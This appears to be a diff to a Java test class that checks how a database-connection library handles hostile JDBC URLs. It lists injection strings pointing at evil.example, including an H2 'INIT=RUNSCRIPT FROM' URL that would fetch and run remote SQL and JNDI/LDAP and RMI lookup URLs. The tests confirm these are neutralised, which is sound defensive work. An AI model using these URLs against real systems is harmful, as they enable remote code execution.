@@ -62,7 +62,6 @@ class HostileUrlTest {
             "postgresql://h ost/d",
             "postgresql://h\tost/d",
             "jdbc:postgresql:d?socketFactory=x",
-            "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
             "jdbc:jndi:ldap://evil.example/x",
             "ldap://evil.example/x",
             "rmi://evil.example/x",
@@ -108,6 +107,21 @@ class HostileUrlTest {
         assertThat(urls).hasSizeGreaterThanOrEqualTo(150);
         assertThat(let).isEmpty();
         assertThat(reached).hasValue(0);
+    }
+
+    @Test
+    void partOfAUrl_meansNothingToTheDriver_inADialectOfSomebodyElse() {
+        List<String> seen = new ArrayList<>();
+        try (Engine engine = Engine.builder("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'")
+                .connector((jdbcUrl, properties) -> {
+                    seen.add(jdbcUrl);
+                    throw new java.sql.SQLException("enough");
+                })
+                .build()) {
+            catchThrowable(engine::connect);
+        }
+
+        assertThat(seen).hasSize(1).noneMatch(jdbcUrl -> jdbcUrl.contains(";INIT"));
     }
 
     @Test
